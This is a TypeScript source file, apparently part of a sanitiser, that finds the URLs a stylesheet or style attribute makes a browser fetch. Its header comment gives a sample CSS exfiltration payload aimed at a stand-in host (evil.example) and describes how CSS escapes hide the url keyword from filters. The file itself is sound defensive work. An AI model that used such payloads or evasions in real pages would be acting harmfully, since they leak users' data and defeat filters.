/**
 * URLs a stylesheet makes the browser fetch. A `style` attribute or a `<style>` element loads
 * `background: url(https://evil.example/p?d=…)` as soon as it is shown, just like an image, and CSS escapes
 * (`u\72l(`) hide the keyword from a naive search, so escapes are resolved before `url(…)`, `image-set(…)` and
 * `@import` are looked for.
 */

import { CLOSE_PAREN, DOUBLE_QUOTE, isAsciiWhitespace, SINGLE_QUOTE, skipAsciiWhitespace } from './chars.ts';
import { codePointText } from './character-references.ts';

const CSS_ESCAPE = /\\(?:([0-9A-Fa-f]{1,6})[ \t\n\r\f]?|([^\n\r\f0-9A-Fa-f]))/g;
const CSS_URL_START = /url\(|(?:-webkit-)?image-set\(|@import/gi;

/** URLs a stylesheet or style attribute makes the browser fetch: `url(…)`, `image-set("…")`, `@import "…"`. */
export function cssUrls(css: string): string[] {
  const source = css.includes('\\')
    ? css.replace(CSS_ESCAPE, (_: string, hex?: string, char?: string) => char ?? codePointText(Number.parseInt(hex ?? '', 16)))
    : css;
  const urls: string[] = [];
  const starts = new RegExp(CSS_URL_START.source, 'gi');
  for (let match = starts.exec(source); match !== null; match = starts.exec(source)) {
    const after = starts.lastIndex;
    const keyword = match[0].toLowerCase();
    if (keyword === 'url(') starts.lastIndex = readCssUrl(source, after, urls);
    else if (keyword === '@import') starts.lastIndex = readCssString(source, skipAsciiWhitespace(source, after, source.length), urls);
    else starts.lastIndex = readImageSet(source, after, urls);
  }
  return [...new Set(urls)];
}

function readCssUrl(source: string, pos: number, urls: string[]): number {
  const start = skipAsciiWhitespace(source, pos, source.length);
  const quote = source.charCodeAt(start);
  if (quote === DOUBLE_QUOTE || quote === SINGLE_QUOTE) return readCssString(source, start, urls);
  let end = start;
  while (end < source.length && source.charCodeAt(end) !== CLOSE_PAREN && !isAsciiWhitespace(source.charCodeAt(end))) end++;
  if (end > start) urls.push(source.slice(start, end));
  return end;
}

/** A quoted CSS string at `pos`, if there is one; returns where scanning continues. */
function readCssString(source: string, pos: number, urls: string[]): number {
  const quote = source.charCodeAt(pos);
  if (quote !== DOUBLE_QUOTE && quote !== SINGLE_QUOTE) return pos;
  const close = source.indexOf(String.fromCharCode(quote), pos + 1);
  const end = close < 0 ? source.length : close;
  urls.push(source.slice(pos + 1, end));
  return Math.min(source.length, end + 1);
}

/** Plain strings in `image-set(…)` are URLs too; `url(…)` inside it is left to the caller's scan. */
function readImageSet(source: string, pos: number, urls: string[]): number {
  let i = pos;
  while (i < source.length && source.charCodeAt(i) !== CLOSE_PAREN) {
    const c = source.charCodeAt(i);
    if (c === DOUBLE_QUOTE || c === SINGLE_QUOTE) i = readCssString(source, i, urls);
    else if (source.slice(i, i + 4).toLowerCase() === 'url(') return i;
    else i++;
  }
  return i;
}
